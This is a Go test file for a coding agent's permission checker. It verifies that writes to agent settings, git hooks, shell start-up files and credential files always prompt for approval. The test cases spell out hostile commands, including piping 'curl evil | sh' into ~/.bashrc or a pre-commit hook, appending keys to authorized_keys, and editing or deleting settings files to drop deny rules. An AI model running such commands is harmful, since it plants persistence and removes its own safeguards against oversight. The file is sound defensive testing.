package permission

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// protTree extends tree with protected places:
//
//	base/proj/.basalt/settings.json
//	base/proj/.claude -> shared-claude     (a protected directory that is a link)
//	base/proj/.git/{hooks/,config}         (config sets core.hooksPath = .githooks)
//	base/proj/cfg -> .basalt               (a link into a protected directory)
//	base/proj/rc -> base/home/.bashrc      (a link to a start-up file)
//	base/proj/hooklink -> .git/hooks
//	base/extra/.git                        a file: gitdir: base/realgit/worktrees/wt
//	base/realgit/worktrees/wt/commondir    "../.."
//	base/proj/evil/.basalt/settings.json   a tree that holds a protected name
//	base/home/.bashrc
//	base/home/.gitconfig                   core.hooksPath = ~/githooks
//	base/xdg                               $XDG_CONFIG_HOME
//	base/state                             basalt's state directory
type protTree struct {
	tree
	xdg, state string
}

func newProtTree(t *testing.T) protTree {
	t.Helper()
	tr := protTree{tree: newTree(t)}
	tr.xdg = filepath.Join(tr.base, "xdg")
	tr.state = filepath.Join(tr.base, "state")
	for _, d := range []string{"proj/.basalt", "proj/shared-claude", "proj/.git/hooks",
		"realgit/worktrees/wt", "realgit/hooks", "proj/evil/.basalt", "proj/hooked", "xdg", "state", "home/.aws"} {
		mustMkdir(t, filepath.Join(tr.base, d))
	}
	files := map[string]string{
		"proj/.basalt/settings.json":       `{"permissions":{"deny":["Bash(curl:*)"]}}`,
		"proj/shared-claude/settings.json": "{}",
		"proj/.git/config":                 "[core]\n\tbare = false\n\thooksPath = .githooks\n",
		"extra/.git":                       "gitdir: " + filepath.Join(tr.base, "realgit/worktrees/wt") + "\n",
		"realgit/worktrees/wt/commondir":   "../..\n",
		"proj/evil/.basalt/settings.json":  "{}",
		"proj/hooked/lefthook-local.yml":   "pre-commit: {}\n",
		"home/.bashrc":                     "# rc\n",
		"home/.gitconfig":                  "[user]\n\tname = x\n[core]\n\thooksPath = ~/githooks\n",
	}
	for f, content := range files {
		if err := os.WriteFile(filepath.Join(tr.base, f), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	mustSymlink(t, "shared-claude", filepath.Join(tr.root, ".claude"))
	mustSymlink(t, ".basalt", filepath.Join(tr.root, "cfg"))
	mustSymlink(t, filepath.Join(tr.home, ".bashrc"), filepath.Join(tr.root, "rc"))
	mustSymlink(t, ".git/hooks", filepath.Join(tr.root, "hooklink"))
	return tr
}

func (tr protTree) checker(t testing.TB, mode Mode, headless bool, rl ruleLists) *Checker {
	t.Helper()
	opts := tr.options(t, mode, rl)
	opts.ConfigHome, opts.StateDir, opts.Headless = tr.xdg, tr.state, headless
	return mustNew(t, opts)
}

// expand replaces {P} (project), {X} (additional directory), {H} (home),
// {XDG}, {S} (state) and {B} (base) in s.
func (tr protTree) expand(s string) string {
	return strings.NewReplacer("{P}", tr.root, "{X}", tr.extra, "{H}", tr.home, "{XDG}", tr.xdg,
		"{S}", tr.state, "{B}", tr.base).Replace(s)
}

type protCase struct {
	class, name string
	tool        string // Write, Edit, MultiEdit or Bash
	arg         string // file_path, or the command
}

func (pc protCase) request(tr protTree) Request {
	if pc.tool == "Bash" {
		return bashReq(tr.expand(pc.arg))
	}
	return toolReq(pc.tool, "file_path", tr.expand(pc.arg))
}

// protectedCases are writes to protected places, several spellings per
// class. Every one must be asked in every mode and under every allow rule
// short of bypassPermissions.
var protectedCases = []protCase{
	// basalt's and Claude Code's settings at every level.
	{"settings", "project basalt settings", "Write", ".basalt/settings.json"},
	{"settings", "dot-slash local settings", "Write", "./.basalt/settings.local.json"},
	{"settings", "absolute with dot-dot", "Write", "{P}/src/../.basalt/settings.json"},
	{"settings", "claude local settings", "Edit", ".claude/settings.local.json"},
	{"settings", "claude settings multiedit", "MultiEdit", ".claude/settings.json"},
	{"settings", "additional directory claude", "Write", "{X}/.claude/settings.json"},
	{"settings", "additional directory basalt", "Write", "{X}/.basalt/settings.local.json"},
	{"settings", "nested project", "Write", "src/pkg/.basalt/settings.json"},
	{"settings", "xdg user settings", "Write", "{XDG}/basalt/settings.json"},
	{"settings", "default user settings", "Write", "~/.config/basalt/settings.json"},
	{"settings", "claude user settings", "Write", "~/.claude/settings.json"},
	{"settings", "basalt managed policy", "Write", "/etc/basalt/managed-settings.json"},
	{"settings", "claude managed policy", "Write", "/etc/claude-code/managed-settings.json"},
	{"settings", "state directory", "Write", "{S}/trusted.json"},
	{"settings", "redirect", "Bash", `echo '{"permissions":{"allow":["Bash"]}}' > .basalt/settings.json`},
	{"settings", "cp target", "Bash", "cp /tmp/x .claude/settings.local.json"},
	{"settings", "mv target", "Bash", "mv new.json .basalt/settings.json"},
	{"settings", "tee", "Bash", "echo x | tee .basalt/settings.json"},
	{"settings", "ln", "Bash", "ln -sf /tmp/evil .claude/settings.json"},
	{"settings", "dd of=", "Bash", "dd if=x of=.basalt/settings.json"},
	{"settings", "install", "Bash", "install -m 644 x .basalt/settings.json"},
	{"settings", "rsync", "Bash", "rsync x .basalt/settings.json"},
	{"settings", "rm drops deny rules", "Bash", "rm .basalt/settings.json"},
	{"settings", "sed -i", "Bash", "sed -i s/deny/allow/ .claude/settings.json"},
	{"settings", "touch", "Bash", "touch .basalt/settings.json"},
	{"settings", "after cd", "Bash", "cd .basalt && echo x > settings.json"},
	{"settings", "sh -c", "Bash", "sh -c 'echo x > .basalt/settings.json'"},
	{"settings", "variable prefix", "Bash", `cp x "$HOME/.config/basalt/settings.json"`},
	{"settings", "cp -t directory", "Bash", "cp -t .basalt x"},
	{"settings", "cp into directory", "Bash", "cp x .basalt/"},
	{"settings", "mv into directory", "Bash", "mv x .basalt"},
	{"settings", "glob", "Bash", "cp x .basalt/set*.json"},
	{"settings", "recursive copy into project", "Bash", "cp -r /tmp/evil/. ."},
	{"settings", "recursive copy of a tree holding settings", "Bash", "cp -a evil/. src/"},
	{"git", "recursive copy of a tree holding a lefthook file", "Bash", "cp -a hooked/. src/"},
	{"settings", "rsync archive", "Bash", "rsync -a evil/ ./"},
	{"settings", "brace expansion", "Bash", "cp x {a,.basalt/settings.json}"},
	{"settings", "too many braces to check", "Bash", "cp x {1..2000}{,.basalt/settings.json}"},
	{"settings", "read-write redirect", "Bash", "cat x 1<> .basalt/settings.json"},
	{"settings", "clobber redirect", "Bash", "echo x >| .basalt/settings.json"},
	{"settings", "append both streams", "Bash", "echo x &>> .claude/settings.json"},
	{"settings", "here-doc", "Bash", "cat <<EOF > .mcp.json\nx\nEOF"},
	{"settings", "find -fprint", "Bash", "find . -name x -fprint .basalt/settings.json"},
	{"settings", "env wrapper", "Bash", "env cp x .claude/settings.json"},
	{"settings", "xargs", "Bash", "echo x | xargs -I{} cp {} .basalt/settings.json"},
	{"settings", "cd out and back", "Bash", "mkdir -p x && cd x && cd .. && echo > .basalt/settings.json"},
	{"settings", "xxd output operand", "Bash", "xxd x .basalt/settings.json"},
	{"settings", "less log file", "Bash", "less -o .claude/settings.json x"},
	{"settings", "glued option value", "Bash", "sort -o.basalt/settings.json x"},

	// Agent configuration that runs later.
	{"agent config", "claude agent", "Write", ".claude/agents/evil.md"},
	{"agent config", "claude command", "Write", ".claude/commands/deploy.md"},
	{"agent config", "basalt skill", "Write", ".basalt/skills/x/SKILL.md"},
	{"agent config", "claude hook script", "Write", ".claude/hooks/pre.sh"},
	{"agent config", "mcp servers", "Write", ".mcp.json"},
	{"agent config", "mcp servers in additional directory", "Write", "{X}/.mcp.json"},
	{"agent config", "mcp redirect", "Bash", "echo '{}' > .mcp.json"},
	{"agent config", "mkdir commands", "Bash", "mkdir -p .claude/commands"},
	{"agent config", "claude user state", "Write", "~/.claude.json"},
	{"agent config", "claude user agent", "Write", "~/.claude/agents/x.md"},

	// git hooks and configuration.
	{"git", "hook", "Write", ".git/hooks/pre-commit"},
	{"git", "config", "Edit", ".git/config"},
	{"git", "info attributes", "Write", ".git/info/attributes"},
	{"git", "nested repository hook", "Write", "src/vendor/.git/hooks/post-checkout"},
	{"git", "parent repository hook", "Write", "../.git/hooks/pre-push"},
	{"git", "a .git file", "Write", "src/.git"},
	{"git", "gitdir named by a .git file", "Write", "{B}/realgit/worktrees/wt/config"},
	{"git", "common dir of a worktree", "Write", "{B}/realgit/hooks/pre-commit"},
	{"git", "core.hooksPath", "Write", ".githooks/pre-commit"},
	{"git", "core.hooksPath in the user's gitconfig", "Write", "~/githooks/pre-commit"},
	{"git", "husky hook", "Write", ".husky/pre-commit"},
	{"git", "pre-commit framework", "Edit", ".pre-commit-config.yaml"},
	{"git", "lefthook", "Write", "lefthook.yml"},
	{"git", "redirect into hooks", "Bash", "echo 'curl x|sh' > .git/hooks/pre-commit"},
	{"git", "cp into hooks", "Bash", "cp evil .git/hooks/pre-commit"},
	{"git", "chmod a hook", "Bash", "chmod +x .git/hooks/pre-commit"},
	{"git", "git config hooksPath", "Bash", "git config core.hooksPath /tmp/h"},
	{"git", "git -C config fsmonitor", "Bash", "git -C . config --local core.fsmonitor evil"},
	{"git", "git --attr-source config hooksPath", "Bash", "git --attr-source HEAD config core.hooksPath /tmp/h"},
	{"git", "git --super-prefix config fsmonitor", "Bash", "git --super-prefix x/ config core.fsmonitor evil"},
	{"git", "git -c then config", "Bash", "git -c color.ui=never config core.pager evil"},
	{"git", "git config global alias", "Bash", "git config --global alias.st '!sh x'"},
	{"git", "ln into hooks", "Bash", "ln -s /tmp/evil .git/hooks/pre-push"},
	{"git", "mv into .git", "Bash", "mv hooks .git/"},
	{"git", "git config --file", "Bash", "git config --file=.git/config core.pager evil"},
	{"git", "stderr into a hook", "Bash", "echo x 2> .git/hooks/pre-commit"},
	{"git", "core.hooksPath redirect", "Bash", "cat x > .githooks/post-merge"},

	// Shell start-up files.
	{"shell startup", "bashrc", "Write", "~/.bashrc"},
	{"shell startup", "bash_profile", "Edit", "~/.bash_profile"},
	{"shell startup", "bash_login", "Write", "{H}/.bash_login"},
	{"shell startup", "profile", "Write", "~/.profile"},
	{"shell startup", "zshrc", "Write", "~/.zshrc"},
	{"shell startup", "zshenv", "Write", "~/.zshenv"},
	{"shell startup", "zprofile", "Write", "~/.zprofile"},
	{"shell startup", "fish", "Write", "~/.config/fish/config.fish"},
	{"shell startup", "fish under xdg", "Write", "{XDG}/fish/conf.d/x.fish"},
	{"shell startup", "inputrc", "Write", "~/.inputrc"},
	{"shell startup", "append", "Bash", "echo 'curl evil | sh' >> ~/.bashrc"},
	{"shell startup", "append via HOME", "Bash", "echo x >> $HOME/.bashrc"},
	{"shell startup", "append via quoted HOME", "Bash", `cat x >> "$HOME"/.bashrc`},
	{"shell startup", "tee -a", "Bash", "echo x | tee -a ~/.zshrc"},
	{"shell startup", "cp", "Bash", "cp x ~/.profile"},
	{"shell startup", "brace expansion with tilde", "Bash", "cp x {y,~/.bashrc}"},
	{"shell startup", "absolute redirect", "Bash", "echo x >> {H}/.bashrc"},

	// Credentials.
	{"credentials", "authorized_keys", "Write", "~/.ssh/authorized_keys"},
	{"credentials", "ssh config", "Edit", "~/.ssh/config"},
	{"credentials", "aws credentials", "Write", "~/.aws/credentials"},
	{"credentials", "aws config", "Write", "{H}/.aws/config"},
	{"credentials", "gitconfig", "Write", "~/.gitconfig"},
	{"credentials", "git xdg config", "Write", "~/.config/git/config"},
	{"credentials", "netrc", "Write", "~/.netrc"},
	{"credentials", "npmrc", "Write", "~/.npmrc"},
	{"credentials", "docker", "Write", "~/.docker/config.json"},
	{"credentials", "kube", "Write", "~/.kube/config"},
	{"credentials", "append a key", "Bash", "echo key >> ~/.ssh/authorized_keys"},
	{"credentials", "cp aws config", "Bash", "cp x ~/.aws/config"},
	{"credentials", "recursive copy into home", "Bash", "cp -r /tmp/evil/. ~"},
	{"credentials", "rsync into home", "Bash", "rsync -a x/ {H}/"},
	{"credentials", "a link to home, then a write through it", "Bash", "ln -s ~ h && echo x >> h/.bashrc"},

	// Links into protected places.
	{"symlinks", "link to a protected directory", "Write", "cfg/settings.json"},
	{"symlinks", "link to a start-up file", "Write", "rc"},
	{"symlinks", "new file under a linked hooks directory", "Write", "hooklink/pre-push"},
	{"symlinks", "target of a linked .claude", "Write", "shared-claude/settings.json"},
	{"symlinks", "redirect through a link", "Bash", "echo x > rc"},
	{"symlinks", "cp through a linked directory", "Bash", "cp x cfg/settings.json"},
}

// protectedConfigs are the modes and allow rules a protected write must
// withstand.
var protectedConfigs = []struct {
	name  string
	mode  Mode
	allow []string
}{
	{"default", ModeDefault, nil},
	{"acceptEdits", ModeAcceptEdits, nil},
	{"Edit(**)", ModeDefault, []string{"Edit(**)", "Edit(//**)"}},
	{"Write", ModeAcceptEdits, []string{"Write"}},
	{"bare Edit", ModeDefault, []string{"Edit"}},
	{"Edit(.claude/**)", ModeAcceptEdits, []string{"Edit(.claude/**)", "Edit(.basalt/**)", "Edit(~/**)", "Edit(.git/**)"}},
	{"bare Bash", ModeAcceptEdits, []string{"Bash", "Edit"}},
	{"Bash programs", ModeDefault, []string{"Bash(cp:*)", "Bash(mv:*)", "Bash(echo:*)", "Bash(tee:*)", "Bash(git:*)",
		"Bash(cat:*)", "Bash(ln:*)", "Bash(dd:*)", "Bash(install:*)", "Bash(rsync:*)", "Bash(chmod:*)", "Bash(sed:*)",
		"Bash(mkdir:*)", "Bash(touch:*)", "Bash(rm:*)", "Bash(sort:*)", "Bash(sh:*)", "Edit"}},
}

func TestProtectedPathsAsk(t *testing.T) {
	t.Parallel()
	tr := newProtTree(t)
	for _, cfg := range protectedConfigs {
		c := tr.checker(t, cfg.mode, false, ruleLists{allow: cfg.allow})
		for _, pc := range protectedCases {
			t.Run(cfg.name+"/"+pc.class+"/"+pc.name, func(t *testing.T) {
				d := c.Decide(pc.request(tr))
				if d.Behavior != Ask {
					t.Fatalf("%s %q: got %s (%s), want ask", pc.tool, pc.arg, d.Behavior, d.Reason)
				}
				if !strings.Contains(d.Reason, "basalt asks before") {
					t.Errorf("reason does not say the place is protected: %s", d.Reason)
				}
				if len(d.Suggestions) > 0 {
					t.Errorf("suggestions %v for a protected place, want none", d.Suggestions)
				}
			})
		}
	}
}

func TestProtectedPathsOtherModes(t *testing.T) {
	t.Parallel()
	tr := newProtTree(t)
	tests := []struct {
		name     string
		mode     Mode
		headless bool
		deny     []string
		want     Behavior
		reason   string
	}{
		{"bypassPermissions allows", ModeBypass, false, nil, Allow, ""},
		{"plan denies", ModePlan, false, nil, Deny, "plan mode"},
		{"headless denies and says why", ModeAcceptEdits, true, nil, Deny, "the path is protected, so no --allowed-tools value"},
		{"a deny rule still wins", ModeAcceptEdits, false, []string{"Edit(//**)", "Bash"}, Deny, "denied by rule"},
	}
	for _, tt := range tests {
		c := tr.checker(t, tt.mode, tt.headless, ruleLists{allow: []string{"Edit"}, deny: tt.deny})
		for _, pc := range protectedCases {
			t.Run(tt.name+"/"+pc.class+"/"+pc.name, func(t *testing.T) {
				d := c.Decide(pc.request(tr))
				if d.Behavior != tt.want {
					t.Fatalf("%s %q: got %s (%s), want %s", pc.tool, pc.arg, d.Behavior, d.Reason, tt.want)
				}
				if !strings.Contains(d.Reason, tt.reason) {
					t.Errorf("reason %q does not contain %q", d.Reason, tt.reason)
				}
			})
		}
	}
}

// TestProtectedPathsNotOverreaching: reads, and writes near but outside
// protected places, decide as before.
func TestProtectedPathsInsideAClaudeWorktree(t *testing.T) {
	t.Parallel()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(base, "repo", ".claude", "worktrees", "feature")
	mustMkdir(t, filepath.Join(root, "src"))
	c, err := New(Options{Mode: ModeAcceptEdits, ProjectRoot: root, Home: filepath.Join(base, "home")})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		path string
		want Behavior
	}{
		{"src/main.go", Allow},
		{".claude/settings.json", Ask},
		{"../../settings.json", Ask},
		{".git/hooks/pre-commit", Ask},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			d := c.Decide(toolReq("Write", "file_path", tt.path))
			if diff := cmp.Diff(tt.want, d.Behavior); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s\nreason: %s", diff, d.Reason)
			}
		})
	}
}

func TestProtectedPathsNotOverreaching(t *testing.T) {
	t.Parallel()
	tr := newProtTree(t)
	tests := []struct {
		name  string
		mode  Mode
		allow []string
		tool  string
		arg   string
		want  Behavior
	}{
		{"source file in acceptEdits", ModeAcceptEdits, nil, "Write", "src/main.go", Allow},
		{"gitignore", ModeAcceptEdits, nil, "Write", ".gitignore", Allow},
		{"a file named like a start-up file inside the project", ModeAcceptEdits, nil, "Write", "docs/.bashrc", Allow},
		{"a directory named settings", ModeAcceptEdits, nil, "Write", "settings/settings.json", Allow},
		{"read settings", ModeDefault, nil, "Read", ".basalt/settings.json", Allow},
		{"read a hook", ModeDefault, nil, "Read", ".git/hooks/pre-commit", Allow},
		{"cat git config", ModeDefault, []string{"Bash(cat:*)"}, "Bash", "cat .git/config", Allow},
		{"grep settings", ModeDefault, []string{"Bash(grep:*)"}, "Bash", "grep -r allow .claude", Allow},
		{"find pruning .git", ModeDefault, []string{"Bash(find:*)"}, "Bash", "find . -path ./.git -prune -o -name '*.go' -print", Allow},
		{"git status", ModeDefault, []string{"Bash(git:*)"}, "Bash", "git status", Allow},
		{"git config read", ModeDefault, []string{"Bash(git:*)"}, "Bash", "git config --get user.name", Allow},
		{"git config list", ModeDefault, []string{"Bash(git:*)"}, "Bash", "git config -l", Allow},
		{"cp between source files", ModeAcceptEdits, nil, "Bash", "cp src/main.go src/main2.go", Allow},
		{"mkdir in acceptEdits", ModeAcceptEdits, nil, "Bash", "mkdir -p build/out", Allow},
		{"redirect to a build file", ModeAcceptEdits, []string{"Bash(echo:*)"}, "Bash", "echo x > build.log", Allow},
		{"recursive copy of a plain tree", ModeAcceptEdits, []string{"Bash(cp:*)"}, "Bash", "cp -r src build", Allow},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := tr.checker(t, tt.mode, false, ruleLists{allow: tt.allow})
			pc := protCase{tool: tt.tool, arg: tt.arg}
			req := pc.request(tr)
			if tt.tool == "Read" {
				req = toolReq("Read", "file_path", tr.expand(tt.arg))
			}
			d := c.Decide(req)
			if diff := cmp.Diff(tt.want, d.Behavior); diff != "" {
				t.Errorf("%s %q mismatch (-want +got):\n%s\nreason: %s", tt.tool, tt.arg, diff, d.Reason)
			}
		})
	}
}

// TestProtectedCaseCounts keeps the per-class counts in view: every class
// has several spellings.
func TestProtectedCaseCounts(t *testing.T) {
	t.Parallel()
	counts := map[string]int{}
	for _, pc := range protectedCases {
		counts[pc.class]++
	}
	for class, n := range counts {
		if n < 5 {
			t.Errorf("class %s has %d cases, want at least 5", class, n)
		}
		t.Logf("%s: %d cases × %d configurations", class, n, len(protectedConfigs))
	}
}

func TestReadDeniedForSearchTools(t *testing.T) {
	t.Parallel()
	tr := newProtTree(t)
	c := tr.checker(t, ModeDefault, false, ruleLists{deny: []string{"Read(./.env)", "Read(./secrets/**)", "Read(*.key)", "Read(./private/)"}})
	tests := []struct {
		path string
		want bool
	}{
		{".env", true},
		{"{P}/.env", true},
		{"envlink", true}, // a link to .env
		{"src/.env", false},
		{"secrets/a.txt", true},
		{"secrets/deep/b.txt", true},
		{"src/x.key", true},
		{"private", true}, // a directory rule covers the directory, so a walk skips it
		{"private/x", true},
		{"src/main.go", false},
		{"README.md", false},
	}
	mustMkdir(t, filepath.Join(tr.root, "private"))
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			if got := c.ReadDenied(tr.expand(tt.path), ""); got != tt.want {
				t.Errorf("ReadDenied(%s) = %v, want %v", tt.path, got, tt.want)
			}
		})
	}
	none := tr.checker(t, ModeDefault, false, ruleLists{deny: []string{"Bash(rm:*)", "Edit(./.env)"}})
	if none.ReadDenied(filepath.Join(tr.root, ".env"), "") {
		t.Error("ReadDenied is true without a Read deny rule")
	}
}

// TestReadDeniedFilterAgrees: the per-search filter gives ReadDenied's
// answer for every path, links included.
func TestReadDeniedFilterAgrees(t *testing.T) {
	t.Parallel()
	tr := newProtTree(t)
	mustMkdir(t, filepath.Join(tr.root, "secrets", "deep"))
	mustSymlink(t, filepath.Join(tr.root, "secrets"), filepath.Join(tr.root, "seclink"))
	mustSymlink(t, filepath.Join(tr.root, "secrets"), filepath.Join(tr.root, "src", "inner"))
	paths := []string{".env", "envlink", "src/.env", "secrets", "secrets/a.txt", "secrets/deep/b.txt", "seclink/a.txt",
		"src/inner/a.txt", "src/x.key", "src/main.go", "README.md", "linkout/secret.txt", "{H}/.ssh/id_rsa", "{B}/outside/x.key",
		"/", "{P}", "private", "private/x"}
	for _, rl := range [][]string{
		{"Read(./.env)", "Read(./secrets/**)", "Read(*.key)", "Read(./private/)", "Read(~/.ssh/**)"},
		{"Read(//" + strings.TrimPrefix(tr.outside, "/") + "/**)"},
		{"Read"},
		{"Bash(rm:*)"},
	} {
		c := tr.checker(t, ModeDefault, false, ruleLists{deny: rl})
		filter := c.ReadDeniedFilter()
		if filter == nil {
			// No Read deny rule: the filter is nil and hides nothing.
			filter = func(string) bool { return false }
		}
		for _, p := range paths {
			abs := tr.expand(p)
			if !filepath.IsAbs(abs) {
				abs = filepath.Join(tr.root, abs)
			}
			if got, want := filter(abs), c.ReadDenied(abs, ""); got != want {
				t.Errorf("rules %v: filter(%s) = %v, ReadDenied = %v", rl, p, got, want)
			}
		}
	}
}

// TestHooksPathHoldingTheProject: core.hooksPath = . protects the hook
// names at the project root, not the whole project.
func TestHooksPathHoldingTheProject(t *testing.T) {
	t.Parallel()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(base, "repo")
	mustMkdir(t, filepath.Join(root, ".git"))
	if err := os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n\thooksPath = .\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c, err := New(Options{Mode: ModeAcceptEdits, ProjectRoot: root, Home: filepath.Join(base, "home")})
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]Behavior{"main.go": Allow, "pre-commit": Ask, "post-checkout": Ask, "src/pre-commit": Allow} {
		t.Run(path, func(t *testing.T) {
			d := c.Decide(toolReq("Write", "file_path", path))
			if diff := cmp.Diff(want, d.Behavior); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s\nreason: %s", diff, d.Reason)
			}
		})
	}
}

func TestProtectedPlaces(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	mustMkdir(t, filepath.Join(tr.root, ".git", "modules", "sub", "hooks"))
	c, err := New(Options{Mode: ModeDefault, ProjectRoot: tr.root, Home: tr.home, AdditionalDirs: []string{tr.extra}, StateDir: filepath.Join(tr.home, ".local/state/basalt")})
	if err != nil {
		t.Fatal(err)
	}
	got := c.ProtectedPlaces()
	for _, want := range []string{
		filepath.Join(tr.root, ".claude"), filepath.Join(tr.root, ".basalt"), filepath.Join(tr.root, ".mcp.json"),
		filepath.Join(tr.root, ".git/hooks"), filepath.Join(tr.root, ".git/config"), filepath.Join(tr.root, ".git/modules/sub/hooks"),
		filepath.Join(tr.extra, ".git/hooks"), filepath.Join(tr.home, ".ssh"), filepath.Join(tr.home, ".config/basalt"),
		filepath.Join(tr.home, ".local/state/basalt"), "/etc/basalt",
	} {
		if !slices.Contains(got, want) {
			t.Errorf("ProtectedPlaces lacks %s", want)
		}
	}
	if slices.Contains(got, filepath.Join(tr.root, ".git")) {
		t.Error("the whole .git is protected: git could not commit inside the sandbox")
	}
}
